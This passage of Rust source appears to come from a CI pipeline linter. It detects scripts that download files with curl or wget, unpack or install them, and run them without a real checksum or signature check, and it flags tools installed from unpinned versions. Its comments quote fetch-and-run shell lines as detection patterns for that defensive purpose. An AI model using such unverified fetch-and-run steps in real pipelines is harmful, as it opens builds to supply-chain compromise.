        // a program names its files on its line (`echo '… f' | sha256sum -c`); a
        // comparison in its own pipeline
        let line_start = text[..pipeline_start].rfind('\n').map_or(0, |i| i + 1);
        let line_end = rest.find('\n').map_or(text.len(), |i| last.end + i);
        let scope = match kind {
            CheckKind::Program => &text[line_start..line_end],
            CheckKind::Compare { .. } => &text[pipeline_start..last.end],
        };
        let vouched = self.vouched_files(scope, c, kind);
        self.pending.retain(|p| !vouched.contains(p));
        if let Some(end) = until {
            let script = text.as_ptr() as usize;
            (self.guarded).extend(vouched.into_iter().map(|v| (v, script, end)));
        }
    }

    /// The pending files a check on `line` vouches for (see [`Downloads::vouch`]).
    fn vouched_files(&self, line: &str, c: &Command, kind: CheckKind) -> Vec<(String, FileRange)> {
        let name = c.name().map(base).unwrap_or_default();
        let checksum_tool = kind == CheckKind::Program && name.ends_with("sum");
        // the list of checksums a tool reads (`-c SHA256SUMS`) is not what it vouches for
        let lists: Vec<&str> = match checksum_tool {
            true => (operands(c.args(), &[]).iter())
                .map(|w| base(&w.text))
                .collect(),
            false => Vec::new(),
        };
        // a list of checksums this job downloaded and did not check comes from the server
        // that sent the files: it proves nothing of them
        if (self.pending.iter()).any(|(f, _)| lists.contains(&base(f))) {
            return Vec::new();
        }
        // `[ "$ACTUAL" = "$SHA" ]`: the assignment of the digest names the file
        let digests: Vec<&str> = (c.args().iter().flat_map(|a| &a.vars))
            .filter_map(|v| self.assigned.get(&v.name).map(String::as_str))
            .collect();
        let named = |f: &str| {
            let f = base(f);
            (line.contains(f) || digests.iter().any(|d| d.contains(f))) && !lists.contains(&f)
        };
        let found: Vec<(String, FileRange)> = (self.pending.iter())
            .filter(|(f, _)| named(f))
            .cloned()
            .collect();
        if !found.is_empty() || kind != CheckKind::Program {
            return found;
        }
        let image = name == "cosign" && c.args().first().is_some_and(|a| a.text == "verify");
        let fed = c.piped_in || operands(c.args(), &[]).iter().all(|w| w.text == "-");
        match image || (checksum_tool && fed) {
            true => Vec::new(),
            false => self.pending.clone(),
        }
    }

    /// Files a check guarded are pending again once `c` is past what it guards (or in
    /// another script).
    fn unguard(&mut self, text: &str, c: &Command) {
        if self.guarded.is_empty() {
            return;
        }
        let script = text.as_ptr() as usize;
        let at = c.words.first().map_or(0, |w| w.start);
        let (back, kept): (Vec<_>, Vec<_>) = std::mem::take(&mut self.guarded)
            .into_iter()
            .partition(|(_, s, end)| *s != script || at >= *end);
        self.guarded = kept;
        self.pending.extend(back.into_iter().map(|(file, ..)| file));
    }
}

/// Where the pipeline holding the program at `at` starts: after the `;`, line break
/// (one that a `|` or `\` does not continue), `&&`, `||` or `&` before it (looked for
/// in [`COMMAND_WINDOW`] bytes), past the reserved words that only open a block
/// (`then`, `do`, `else`, `{`).
fn pipeline_start(text: &str, at: usize) -> usize {
    let b = text.as_bytes();
    let floor = at.saturating_sub(COMMAND_WINDOW);
    let mut i = at;
    while i > floor {
        let c = b[i - 1];
        let redirect = c == b'&'
            && (matches!(b.get(i.wrapping_sub(2)), Some(b'>' | b'<')) || b.get(i) == Some(&b'>'));
        let or = c == b'|' && i >= 2 && b[i - 2] == b'|';
        if c == b'\n' && continued_line(&b[floor..i - 1]) {
            i -= 1;
            continue;
        }
        if c == b'\n' || c == b';' || (c == b'&' && !redirect) || or {
            break;
        }
        i -= 1;
    }
    while !text.is_char_boundary(i) {
        i += 1;
    }
    let mut start = i;
    loop {
        let head = &text[start..at];
        let blank = head.len() - head.trim_start().len();
        let opener = ["then ", "do ", "else ", "{ ", "( "]
            .into_iter()
            .find(|k| head.trim_start().starts_with(k));
        match opener {
            Some(k) => start += blank + k.len(),
            None => return start,
        }
    }
}

/// Whether the line that ends `before` goes on into the next one: it ends with `\` or
/// a lone `|` (`echo "… f" |` and `sha256sum -c -` below it are one pipeline).
fn continued_line(before: &[u8]) -> bool {
    if before.last() == Some(&b'\\') {
        return true;
    }
    matches!(before.trim_ascii_end(), [.., c, b'|'] if *c != b'|')
}

/// Where what a check guards ends, when its failure only skips that: the rest of its
/// `&&` chain (`check && sh f`), the `then` branch of its `if` (`if check; then sh f;
/// fi`), the body of its `while`; not when its failure stops the job (`if ! check;
/// then exit 1; fi`, `if check; then …; else exit 1; fi`). Looked for in
/// [`COMMAND_WINDOW`] bytes.
fn guarded_until(text: &str, from: usize, before: &str) -> Option<usize> {
    let rest = first_bytes(&text[from..], COMMAND_WINDOW);
    let end = command_end(rest);
    if rest[end..].starts_with("&&") {
        return Some(and_chain_end(text, from));
    }
    let condition = before.trim_start();
    let (_, closer) = [("if ", "fi"), ("elif ", "fi"), ("while ", "done")]
        .into_iter()
        .find(|(kw, _)| {
            (condition.strip_prefix(kw)).is_some_and(|c| !c.trim_start().starts_with('!'))
        })?;
    let close = word_in(rest, closer).unwrap_or(rest.len());
    if closer == "done" {
        return Some(from + close);
    }
    let (otherwise, elif) = (
        word_in(&rest[..close], "else"),
        word_in(&rest[..close], "elif"),
    );
    // `else exit 1`: past the `fi`, the check passed (only a first command that stops
    // the job: `else sh f; exit 1` runs `sh f` first)
    let stops = otherwise.filter(|_| elif.is_none()).is_some_and(|e| {
        let branch = &rest[e + "else".len()..close];
        (branch.split([';', '\n']))
            .find(|p| !p.trim().is_empty())
            .is_some_and(branch_fails)
    });
    if stops {
        return None;
    }
    let then_end = [otherwise, elif]
        .into_iter()
        .flatten()
        .min()
        .unwrap_or(close);
    Some(from + then_end)
}

/// Where the `&&` chain going on at `from` ends: at a `;`, a line break, a lone `&` or
/// a `||` (whose right side runs when the chain fails); looked for in
/// [`COMMAND_WINDOW`] bytes.
fn and_chain_end(text: &str, from: usize) -> usize {
    let text = &text[..from + first_bytes(&text[from..], COMMAND_WINDOW).len()];
    let mut at = from;
    loop {
        let segment = &text[at..];
        let end = command_end(segment);
        if let Some(or) = segment[..end].find("||") {
            return at + or;
        }
        match segment[end..].strip_prefix("&&") {
            Some(_) => at += end + 2,
            None => return at + end,
        }
    }
}

/// Where the word `word` (`fi`, `done`) first stands alone in `text`.
fn word_in(text: &str, word: &str) -> Option<usize> {
    let b = text.as_bytes();
    let apart = |i: usize| {
        b.get(i)
            .is_none_or(|c| !(c.is_ascii_alphanumeric() || *c == b'_'))
    };
    (text.match_indices(word))
        .map(|(i, _)| i)
        .find(|&i| (i == 0 || apart(i - 1)) && apart(i + word.len()))
}

/// Whether an inverted comparison (true on a mismatch) stops the job then: `[ … != … ]
/// && exit 1`, `&& { echo bad; exit 1; }`, `if [ … != … ]; then …; exit 1; fi`.
fn inverted_check_stops(before: &str, rest: &str) -> bool {
    let rest = first_bytes(rest, COMMAND_WINDOW);
    let end = command_end(rest);
    if let Some(branch) = rest[end..].strip_prefix("&&") {
        return branch_fails(branch);
    }
    if !before.trim_start().starts_with("if ") {
        return false;
    }
    let Some(then) = word_in(rest, "then") else {
        return false;
    };
    let branch = &rest[then + "then".len()..];
    let body_end = ["fi", "else", "elif"]
        .iter()
        .filter_map(|k| word_in(branch, k))
        .min()
        .unwrap_or(branch.len());
    (branch[..body_end].split([';', '\n'])).any(branch_fails)
}

/// Whether a branch (as written at its start) stops the job: a failing command, or a
/// `{ … }` or `( … )` holding one (a subshell's `exit 1` fails the list it ends).
fn branch_fails(branch: &str) -> bool {
    let branch = branch.trim_start();
    let inside = |open: char, close: char| {
        branch
            .strip_prefix(open)
            .map(|b| &b[..b.find(close).unwrap_or(b.len())])
    };
    match inside('{', '}').or_else(|| inside('(', ')')) {
        Some(body) => body
            .split([';', '\n'])
            .any(|p| fails_the_job(p.trim_start())),
        None => fails_the_job(branch),
    }
}

/// Whether the rest of a check's command goes on when the check fails: `|| true`, `||
/// echo …` (not `|| exit 1`, `|| { echo bad; exit 1; }`, `|| false`), past its
/// redirections (`2>/dev/null || true`).
fn failure_ignored(rest: &str) -> bool {
    let rest = first_bytes(rest, COMMAND_WINDOW);
    let command_end = command_end(rest);
    // `sha256sum -c f &`: run in the background, its failure stops nothing
    let after = &rest[command_end..];
    if after.starts_with('&') && !after.starts_with("&&") {
        return true;
    }
    let Some(or) = rest[..command_end].find("||") else {
        return false;
    };
    !branch_fails(&rest[or + 2..])
}

/// Where the command at the start of `rest` ends: a `;`, a line break, or a `&` that is
/// no redirection's (`2>&1`, `&>`, `<&3`).
fn command_end(rest: &str) -> usize {
    let b = rest.as_bytes();
    (0..b.len())
        .find(|&i| match b[i] {
            b';' | b'\n' => true,
            b'&' => {
                let redirect =
                    (i > 0 && matches!(b[i - 1], b'>' | b'<')) || b.get(i + 1) == Some(&b'>');
                !redirect
            }
            _ => false,
        })
        .unwrap_or(rest.len())
}

/// Whether a command (as written at the start of `s`) ends the job: `exit` but
/// `exit 0`, `false`, `return 1`.
fn fails_the_job(s: &str) -> bool {
    (s.starts_with("exit") && !s["exit".len()..].trim_start().starts_with('0'))
        || s.starts_with("false")
        || s.starts_with("return 1")
}

/// `if ! echo '…  x' | sha256sum -c; then echo "bad"; fi`: a check whose failure runs
/// a branch that only says so (`echo`, `printf`, `true`: nothing that may stop the job,
/// as `exit 1` or a project's `die` does) vouches for nothing. `before` is its line up to the check's pipeline, `rest` the
/// script after it.
fn negated_check_goes_on(before: &str, rest: &str) -> bool {
    let negated =
        (before.trim_start().strip_prefix("if ")).is_some_and(|b| b.trim_start().starts_with("! "));
    let rest = first_bytes(rest, COMMAND_WINDOW);
    let Some(then) = rest.find("then").filter(|_| negated) else {
        return false;
    };
    let branch = &rest[then + "then".len()..];
    let parts = branch.split([';', '\n']).map(str::trim_start);
    let body = parts.take_while(|p| !["fi", "else", "elif"].iter().any(|k| p.starts_with(k)));
    // only messages: a command of the project's (`die "mismatch"`) may well stop it
    let says_so = |part: &str| {
        let part = part.trim_start_matches(['{', '(']).trim_start();
        part.is_empty()
            || ["echo", "printf", ">&2", "true", ":"]
                .iter()
                .any(|m| part.starts_with(m))
    };
    { body }.all(|part| part.split("&&").all(says_so))
}

/// `curl "$CI_API_V4_URL/projects/$CI_PROJECT_ID/repository/files/x/raw?ref=$CI_COMMIT_SHA"`:
/// a file of the project itself at the commit being built, which is what the job's
/// checkout holds (a job without a clone fetches it so). No one else's code.
fn fetches_own_commit(c: &Command, assigned: &HashMap<String, String>) -> bool {
    c.args().iter().any(|a| {
        let mut url = a.text.clone();
        for v in &a.vars {
            if let Some(value) = assigned.get(&v.name) {
                url = url
                    .replace(&format!("${{{}}}", v.name), value)
                    .replace(&format!("${}", v.name), value);
            }
        }
        let own_project = ["CI_PROJECT_ID", "CI_PROJECT_PATH", "CI_PROJECT_URL"]
            .iter()
            .any(|p| url.contains(p));
        let this_commit = url.contains("CI_COMMIT_SHA") || url.contains("CI_COMMIT_SHORT_SHA");
        own_project && this_commit
    })
}

/// The folders of a runner image's `PATH`, where an installed tool is run by its name.
const ON_PATH: &[&str] = &[
    "/usr/local/bin",
    "/usr/local/sbin",
    "/usr/bin",
    "/usr/sbin",
    "/bin",
    "/sbin",
    "~/.local/bin",
    "$HOME/.local/bin",
    "~/bin",
    "$HOME/bin",
];

/// `install -m 755 tool /usr/local/bin/tool`, `mv tool /usr/local/bin/`, `cp a b dir/`,
/// `install -t dir tool`: each downloaded file under its new name, still unchecked. A
/// destination that may be a folder or a file is both.
fn moved_files(c: &Command, pending: &[(String, FileRange)]) -> Vec<(String, FileRange)> {
    if !matches!(c.name().map(base), Some("mv" | "cp" | "install")) {
        return Vec::new();
    }
    let args = c.args();
    let ops = operands(args, &["-m", "--mode", "-o", "-g", "-t", "-S"]);
    let folder = args
        .iter()
        .enumerate()
        .find_map(|(i, a)| match a.text.as_str() {
            "-t" => args.get(i + 1).map(|w| w.text.as_str()),
            t => t.strip_prefix("--target-directory="),
        });
    let (to, from) = match folder {
        Some(folder) => (format!("{}/", folder.trim_end_matches('/')), &ops[..]),
        None => match ops.split_last() {
            Some((to, from)) => (to.text.clone(), from),
            None => return Vec::new(),
        },
    };
    let mut out = Vec::new();
    for source in from {
        let Some((file, at)) = pending.iter().find(|(f, _)| same_file(f, &source.text)) else {
            continue;
        };
        let name = file.rsplit('/').next().unwrap_or(file);
        let dir = to.trim_end_matches('/');
        let surely_folder = to.ends_with('/') || from.len() > 1 || ON_PATH.contains(&dir);
        out.push((format!("{dir}/{name}"), *at));
        if !surely_folder {
            out.push((to.clone(), *at));
        }
    }
    out
}

/// What an archive unpacked from a pending download holds: `tar xzf x.tgz -C /opt`
/// gives `/opt/` (every path below it), `unzip x.zip` in the current folder gives
/// `x/` and names written with a wildcard (see [`in_tree`]); `None` for anything else.
fn extracted_tree(c: &Command, pending: &[(String, FileRange)]) -> Option<(String, FileRange)> {
    let args = c.args();
    let (extracts, into) = match c.name().map(base)? {
        "tar" => {
            // `tar xzf`, `tar -xzf`, `tar -C dir -x -f`, `tar --extract`
            let first = args.first().map_or("", |a| a.text.as_str());
            let cluster = |t: &str| {
                t.strip_prefix('-').is_some_and(|f| {
                    !f.starts_with('-')
                        && f.contains('x')
                        && f.chars().all(|c| c.is_ascii_alphabetic())
                })
            };
            let extracts = args
                .iter()
                .any(|a| matches!(a.text.as_str(), "--extract" | "--get"))
                || (!first.starts_with('-') && first.contains('x'))
                || args.iter().any(|a| cluster(&a.text));
            (extracts, value_after(args, "-C", "--directory="))
        }
        // `unzip -l`/`-v`/`-t`/`-Z` list or test, `-p` prints: nothing is written
        "unzip" => {
            let only_reads = args.iter().any(|a| {
                a.text.starts_with('-')
                    && !a.text.starts_with("--")
                    && a.text[1..].contains(['l', 'v', 't', 'Z', 'p'])
            });
            (!only_reads, value_after(args, "-d", ""))
        }
        _ => return None,
    };
    if !extracts {
        return None;
    }
    // `curl … | tar xz`: the archive the pipe brings (the last download piped out)
    let piped = || {
        (c.piped_in)
            .then(|| pending.iter().rev().find(|(f, _)| f.starts_with(PIPED)))
            .flatten()
    };
    let (file, at) = pending
        .iter()
        .find(|(f, _)| args.iter().any(|a| same_file(f, &a.text)))
        .or_else(piped)?;
    let file = file.strip_prefix(PIPED).unwrap_or(file);
    // `-C .` (or the checkout itself) is here: the repository's own files are there too
    let here = |d: &str| {
        matches!(
            d.trim_end_matches('/'),
            "." | "" | "$CI_PROJECT_DIR" | "${CI_PROJECT_DIR}" | "$PWD"
        )
    };
    let tree = match into.filter(|d| !here(d)) {
        Some(dir) => format!("{}/", dir.trim_end_matches('/')),
        None => {
            let name = file.rsplit('/').next().unwrap_or(file);
            let stem = (ARCHIVE_EXTENSIONS.iter())
                .find_map(|ext| name.strip_suffix(ext))
                .unwrap_or(name);
            format!("{TREE_HERE}{stem}")
        }
    };
    Some((tree, *at))
}

/// The endings of the archives `tar` and `unzip` unpack, longest first.
const ARCHIVE_EXTENSIONS: &[&str] = &[
    ".tar.gz", ".tgz", ".tar.xz", ".txz", ".tar.bz2", ".tar", ".zip",
];

/// An archive unpacked in the current folder: what follows is the archive's stem.
const TREE_HERE: &str = "\u{0}here:";

/// An archive a download pipes out (`curl -fsSL URL/tool.tar.gz | tar xz`): what
/// follows is the URL's last part, the archive's name.
const PIPED: &str = "\u{0}piped:";

/// The archive a download sends down a pipe (`curl -fsSL …/tool.tar.gz |`), as a
/// pending file that only the `tar` or `unzip` it is piped to reads.
fn piped_archive(c: &Command) -> Option<String> {
    if !c.piped_out {
        return None;
    }
    let url = c.args().iter().rev().find(|a| a.text.contains("://"))?;
    let last = url.text.split(['?', '#']).next()?.rsplit('/').next()?;
    let archive = ARCHIVE_EXTENSIONS.iter().any(|ext| last.ends_with(ext));
    archive.then(|| format!("{PIPED}{last}"))
}

/// `-C dir` or `--directory=dir` (`long` empty: none).
fn value_after<'a>(args: &'a [Word], short: &str, long: &str) -> Option<&'a str> {
    args.iter().enumerate().find_map(|(i, a)| {
        if a.text == short {
            args.get(i + 1).map(|w| w.text.as_str())
        } else if !long.is_empty() {
            a.text.strip_prefix(long)
        } else {
            None
        }
    })
}

/// Whether `run` is a path inside the unpacked `tree`: below its folder, or (unpacked
/// here) a relative path whose first part is the archive's stem or a wildcard
/// (`cov-analysis-linux64-*/bin/cov-build`), which only what the archive made matches.
fn in_tree(tree: &str, run: &str) -> bool {
    if let Some(stem) = tree.strip_prefix(TREE_HERE) {
        let run = run.trim_start_matches("./");
        let Some((first, _)) = run.split_once('/') else {
            return false;
        };
        return !run.starts_with('/') && (first == stem || first.contains(['*', '?']));
    }
    tree.ends_with('/') && run.starts_with(tree)
}

/// Whether two paths a script writes name one file (`./x` is `x`).
fn same_file(a: &str, b: &str) -> bool {
    a.trim_start_matches("./") == b.trim_start_matches("./")
}

/// Checksum programs, which print a file's digest (and check a list with `-c`).
const CHECKSUM_TOOLS: &[&str] = &[
    "sha256sum",
    "sha512sum",
    "sha384sum",
    "sha1sum",
    "shasum",
    "b2sum",
];

/// How a check is written: a program that checks (`sha256sum -c`, `gpg --verify`), or a
/// comparison of a digest with the one expected, `inverted` when it holds on a mismatch
/// (`[ "$(sha256sum f)" != "$SHA" ] && exit 1`).
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
enum CheckKind {
    Program,
    Compare { inverted: bool },
}

/// The check `c` is, if any: [`verifies`], or a file's digest compared with the one
/// expected (GitLab runs each line under `set -e`): `[ "$(sha256sum f | cut -d' '
/// -f1)" = "$SHA" ]`, `test "$(sha256sum < f)" = "…  -"`, `[[ $(sha256sum f) == $SHA*
/// ]]`, `[ "$ACTUAL" = "$SHA" ]` after `ACTUAL=$(sha256sum f …)`, `sha256sum f | grep
/// -q "$SHA"` (not `grep -v`).
fn check_of(c: &Command, text: &str, assigned: &HashMap<String, String>) -> Option<CheckKind> {
    if verifies(c) {
        return Some(CheckKind::Program);
    }
    let (name, first, last) = (c.name().map(base)?, c.words.first()?, c.words.last()?);
    let names_a_tool =
        |s: &str| (CHECKSUM_TOOLS.iter().chain(&["openssl dgst", "b3sum"])).any(|t| s.contains(t));
    match name {
        "[" | "[[" | "test" => {
            let op = c.args().iter().find_map(|a| match a.text.as_str() {
                "=" | "==" => Some(false),
                "!=" => Some(true),
                _ => None,
            })?;
            let digest_var = (c.args().iter().flat_map(|a| &a.vars)).any(|v| {
                assigned
                    .get(&v.name)
                    .is_some_and(|value| names_a_tool(value))
            });
            (names_a_tool(&text[first.start..last.end]) || digest_var)
                .then_some(CheckKind::Compare { inverted: op })
        }
        "grep" if c.piped_in => {
            // the pipeline's commands before `grep`
            let piped = &text[pipeline_start(text, first.start)..first.start];
            let inverted = c.args().iter().any(|a| {
                a.text == "--invert-match"
                    || (a.text.starts_with('-')
                        && !a.text.starts_with("--")
                        && a.text.contains('v'))
            });
            let pattern = operands(c.args(), &["-e", "-f"]).into_iter().next();
            let expected = pattern.is_some_and(|p| {
                !p.vars.is_empty()
                    || (p.text.len() >= 32 && p.text.bytes().all(|b| b.is_ascii_hexdigit()))
            });
            (expected && !inverted && names_a_tool(piped))
                .then_some(CheckKind::Compare { inverted: false })
        }
        _ => None,
    }
}

/// `sha256sum -c`, `shasum -a 256 -c`, `gpg --verify`, `cosign verify…`, `minisign -V`
/// (`busybox sha256sum -c` too).
fn verifies(c: &Command) -> bool {
    let Some(mut name) = c.name().map(base) else {
        return false;
    };
    let mut args = c.args();
    if name == "busybox" {
        let Some((applet, rest)) = args.split_first() else {
            return false;
        };
        (name, args) = (base(&applet.text), rest);
    }
    let has = |flag: &str| {
        args.iter()
            .any(|a| a.text == flag || a.text.starts_with(&format!("{flag}=")))
    };
    match name {
        "sha256sum" | "sha512sum" | "sha384sum" | "sha1sum" | "shasum" | "b2sum" => {
            has("-c") || has("--check")
        }
        "gpg" | "gpg2" => has("--verify"),
        "gpgv" | "minisign" | "signify" | "slsa-verifier" => true,
        "cosign" => args.first().is_some_and(|a| a.text.starts_with("verify")),
        _ => false,
    }
}

/// The file a `curl`/`wget` writes (`-o FILE`, `-O` for the URL's last segment,
/// `> FILE`), if any.
fn downloaded_file(c: &Command) -> Option<String> {
    let args = c.args();
    let tool = base(c.name()?);
    let mut remote_name = false;
    for (i, a) in args.iter().enumerate() {
        let t = a.text.as_str();
        let next = || args.get(i + 1).map(|w| w.text.clone());
        // a cluster of short options: `-fsSLo FILE`, `-qO-`, `-qOfile`
        if let Some(cluster) = t
            .strip_prefix('-')
            .filter(|c| !c.starts_with('-') && c.len() > 1)
        {
            let out_flag = if tool == "curl" { 'o' } else { 'O' };
            if let Some(k) = cluster.find(out_flag) {
                let rest = &cluster[k + 1..];
                let file = if rest.is_empty() {
                    next()
                } else {
                    Some(rest.to_string())
                };
                return file.filter(|f| f != "-");
            }
            remote_name |= tool == "curl" && cluster.contains('O');
            continue;
        }
        match (tool, t) {
            ("curl", "-o" | "--output") | ("wget", "-O" | "--output-document") => {
                return next().filter(|f| f != "-")
            }
            ("curl", _) if t.starts_with("--output=") => {
                return Some(t["--output=".len()..].to_string())
            }
            ("wget", _) if t.starts_with("--output-document=") => {
                return Some(t["--output-document=".len()..].to_string()).filter(|f| f != "-")
            }
            ("curl", "-O" | "--remote-name") => remote_name = true,
            _ => {}
        }
    }
    if let Some(w) = c.files_written().next() {
        return Some(w.text.clone());
    }
    let url = args.iter().rev().find(|a| a.text.contains("://"))?;
    let last = url.text.split(['?', '#']).next()?.rsplit('/').next()?;
    let wget_default = tool == "wget" && !c.piped_out;
    ((remote_name || wget_default) && !last.is_empty()).then(|| last.to_string())
}

/// The file a command runs: `./x`, `sh x`, `bash x`, `source x`, `. x`.
pub(crate) fn executed_file(c: &Command) -> Option<String> {
    let (name, args) = program_and_args(c)?;
    // `/bin/bash x.sh` runs x.sh: an interpreter first, whatever its path
    let interpreter = is_interpreter(base(name)) || matches!(name, "source" | ".");
    if name.contains('/') && !interpreter {
        return Some(name.to_string());
    }
    if interpreter {
        let ops = operands(args, &["-o", "-O"]);
        if args.iter().any(|a| a.text == "-c") {
            return None;
        }
        return ops.first().map(|w| w.text.clone());
    }
    if matches!(base(name), "make" | "gmake") {
        return makefile(args);
    }
    installed_package(name, args)
}

/// The makefile `make` reads, whose recipes it runs: `-f FILE`, `--file=FILE`,
/// `--makefile FILE`, else `Makefile` in the working directory (unless `-C` moves it).
fn makefile(args: &[Word]) -> Option<String> {
    let mut words = args.iter().map(|w| w.text.as_str());
    while let Some(arg) = words.next() {
        match arg {
            "-f" | "--file" | "--makefile" => return words.next().map(str::to_string),
            "-C" | "--directory" => return None,
            _ => {}
        }
        let joined = (arg.strip_prefix("--file="))
            .or_else(|| arg.strip_prefix("--makefile="))
            .or_else(|| arg.strip_prefix("-f").filter(|f| !f.is_empty()));
        if let Some(file) = joined {
            return Some(file.to_string());
        }
        if arg.starts_with("--directory=") || (arg.starts_with("-C") && arg.len() > 2) {
            return None;
        }
    }
    Some("Makefile".to_string())
}

/// The program a command runs and its arguments: `busybox sh -s` runs `sh -s`.
fn program_and_args(c: &Command) -> Option<(&str, &[Word])> {
    let name = c.name()?;
    let args = c.args();
    match (base(name), args.first()) {
        ("busybox", Some(first)) => Some((first.text.as_str(), &args[1..])),
        _ => Some((name, args)),
    }
}

/// A package file a package manager installs, running its install scripts as root:
/// `dpkg -i x.deb`, `apt install ./x.deb`, `rpm -U x.rpm`, `dnf install ./x.rpm`,
/// `apk add --allow-untrusted x.apk` (`apk add x.apk` checks its signature).
fn installed_package(name: &str, args: &[Word]) -> Option<String> {
    const PACKAGES: &[&str] = &[".deb", ".rpm", ".apk"];
    let installs = match base(name) {
        "dpkg" => args.iter().any(|a| a.text == "-i" || a.text == "--install"),
        "rpm" => args
            .iter()
            .any(|a| a.text.starts_with("-i") || a.text.starts_with("-U") || a.text == "--install"),
        "apt" | "apt-get" | "yum" | "dnf" | "zypper" => args
            .iter()
            .any(|a| matches!(a.text.as_str(), "install" | "localinstall")),
        // apk checks a package's signature against the keys installed, unless told not to
        "apk" => args.iter().any(|a| a.text == "--allow-untrusted"),
        _ => false,
    };
    if !installs {
        return None;
    }
    args.iter()
        .map(|a| a.text.as_str())
        .find(|a| !a.starts_with('-') && PACKAGES.iter().any(|ext| a.ends_with(ext)))
        .map(str::to_string)
}

/// PL6003: tools installed from a reference that moves.
pub fn unpinned_installs(cx: &JobCx) -> Vec<ScriptHit> {
    let mut hits = Vec::new();
    // after `npm ci` or `npm install`, `npx tool` runs the project's own (locked) copy,
    // and so it does when another job's `node_modules` reaches this one
    let mut packages_installed = cx.receives_packages;
    for script in cx.scripts() {
        for c in &script.commands {
            let name = c.name().map(base);
            packages_installed |= name.is_some_and(|n| installs_the_projects_packages(n, c.args()));
            // (`npx tool@latest`, `npx -p tool …` still name what is fetched)
            if name == Some("npx") && packages_installed && !names_a_package_spec(c.args()) {
                continue;
            }
            let Some((what, why)) = unpinned_install(c).or_else(|| npm_moving_variable(cx, c))
            else {
                continue;
            };
            if install_allowed(cx, c) {
                continue;
            }
            let command = command_text(c);
            hits.push(ScriptHit {
                at: at(cx, script, what),
                message: format!(
                    "`{command}` installs {why}: the next run may install something else"
                ),
                label: "not pinned".to_string(),
                related: None,
                fixes: pin_fix(cx, script, c, what).into_iter().collect(),
            });
        }
    }
    hits
}

/// Whether the job starts with the project's `node_modules`: restored from its cache, or
/// downloaded with the artifacts of a job it needs (without `needs`, of a job of an
/// earlier stage), as an `install` job's `artifacts: paths: [node_modules/]` hands on.
pub fn receives_installed_packages(
    job: &plumb_semantics::JobModel,
    jobs: &[plumb_semantics::JobModel],
) -> bool {
    // the project's own, at the top of the checkout (not `frontend/node_modules`)
    let holds = |paths: &[&str]| {
        (paths.iter()).any(|p| {
            let p = p.trim_end_matches('/');
            let p = p.strip_prefix("./").unwrap_or(p);
            p == "node_modules" || p == "$CI_PROJECT_DIR/node_modules"
        })
    };
    if holds(&job.restored_cache_paths()) {
        return true;
    }
    // `dependencies` narrows the jobs whose artifacts are downloaded (`[]`: none)
    let dependencies: Option<Vec<&str>> = (job.field("dependencies"))
        .and_then(|f| f.value.as_list())
        .map(|l| l.iter().filter_map(job_ref_name).collect());
    let downloaded = |j: &plumb_semantics::JobModel| {
        (dependencies.as_ref()).is_none_or(|d| d.contains(&j.name.as_str()))
    };
    let keeps = |j: &plumb_semantics::JobModel| downloaded(j) && holds(&j.artifact_paths());
    // without `needs` (not `needs: []`, which downloads nothing), the earlier stages'
    if job.field("needs").is_none() {
        return (jobs.iter()).any(|j| j.stage < job.stage && keeps(j));
    }
    (job.needs.iter())
        .filter(|n| n.artifacts)
        .filter_map(|n| jobs.get(n.target?))
        .any(keeps)
}

/// A job's name in a list of jobs (`dependencies = [build]`).
fn job_ref_name(v: &Value) -> Option<&str> {
    match &v.kind {
        ValueKind::JobRef(name) => Some(name),
        ValueKind::Str(name) => Some(name),
        _ => None,
    }
}

/// `npm ci`, `npm install` of no named package (options aside: `npm ci --cache .npm
/// --prefer-offline`), `yarn`, `yarn install`, `pnpm install`, `bun install`: the
/// project's packages, as its lock file says, after which `npx tool` runs that copy.
fn installs_the_projects_packages(name: &str, args: &[Word]) -> bool {
    // elsewhere than the job's folder (`--prefix web`, `--cwd web`, `-C web`), or
    // global: not the packages a later `npx` here finds
    let elsewhere = args.iter().any(|a| {
        let t = a.text.as_str();
        matches!(
            t,
            "--prefix" | "--cwd" | "--dir" | "-C" | "-g" | "--global" | "--location=global"
        ) || t.starts_with("--prefix=")
            || t.starts_with("--cwd=")
            || t.starts_with("--dir=")
    });
    if elsewhere {
        return false;
    }
    let ops = operands(args, NPM_VALUE_OPTIONS);
    let sub = ops.first().map(|w| w.text.as_str());
    match name {
        "npm" => {
            matches!(
                sub,
                Some("ci" | "clean-install" | "install-clean" | "install" | "i")
            ) && ops.len() == 1
        }
        "yarn" => matches!(sub, None | Some("install")) && ops.len() <= 1,
        "pnpm" | "bun" => matches!(sub, Some("install" | "i")) && ops.len() == 1,
        _ => false,
    }
}

/// Whether `npx`'s arguments name the package to fetch: `-p`/`--package`, or a first
/// operand with a version (`tool@latest`, `tool@1.2.3`).
fn names_a_package_spec(args: &[Word]) -> bool {
    let body = |w: &Word| w.text.strip_prefix('@').unwrap_or(&w.text).contains('@');
    !option_values(args, &["-p", "--package"]).is_empty()
        || operands(args, &["-p", "--package"])
            .first()
            .is_some_and(|w| body(w))
}

/// The job's `<TOOL>_VERSION` variable, when it holds an exact version (`v0.24.0`,
/// `1.2.3`): the version the file already says the tool should have.
fn version_variable<'j>(cx: &'j JobCx, tool: &str, needs_v: bool) -> Option<&'j str> {
    let name = format!(
        "{}_VERSION",
        tool.to_ascii_uppercase().replace(['-', '.'], "_")
    );
    let binding = cx.job.env.iter().find(|b| b.name == name)?;
    let plumb_semantics::ValueKind::Str(value) = &binding.value.kind else {
        return None;
    };
    // Go module versions are `v1.2.3`; npm's are `1.2.3` (it accepts `v1.2.3` too)
    let digits = match value.strip_prefix('v') {
        Some(d) => d,
        None if needs_v => return None,
        None => value,
    };
    let exact = digits.split('.').count() == 3
        && digits
            .split('.')
            .all(|p| !p.is_empty() && p.chars().all(|c| c.is_ascii_digit()));
    exact.then_some(binding.name.as_str())
}

/// `go install x@latest` and `npm i -g x` / `npx x` pinned to the job's `X_VERSION`
/// variable, when the job has one.
fn pin_fix(cx: &JobCx, script: &ScannedScript, c: &Command, what: &Word) -> Option<Fix> {
    let tool_of = |path: &str| -> String {
        let segments: Vec<&str> = path.split('/').collect();
        let is_major = |s: &str| {
            s.len() > 1 && s.starts_with('v') && s[1..].chars().all(|c| c.is_ascii_digit())
        };
        let last = segments
            .iter()
            .rev()
            .find(|s| !is_major(s))
            .copied()
            .unwrap_or(path);
        last.to_string()
    };
    // the word as written (no quotes in it), so offsets in its text are offsets in the source
    if script.text.get(what.start..what.end) != Some(what.text.as_str()) {
        return None;
    }
    let (kept, tool) = match base(c.name()?) {
        "go" => {
            let (path, _) = what.text.rsplit_once('@')?;
            (path.len(), tool_of(path))
        }
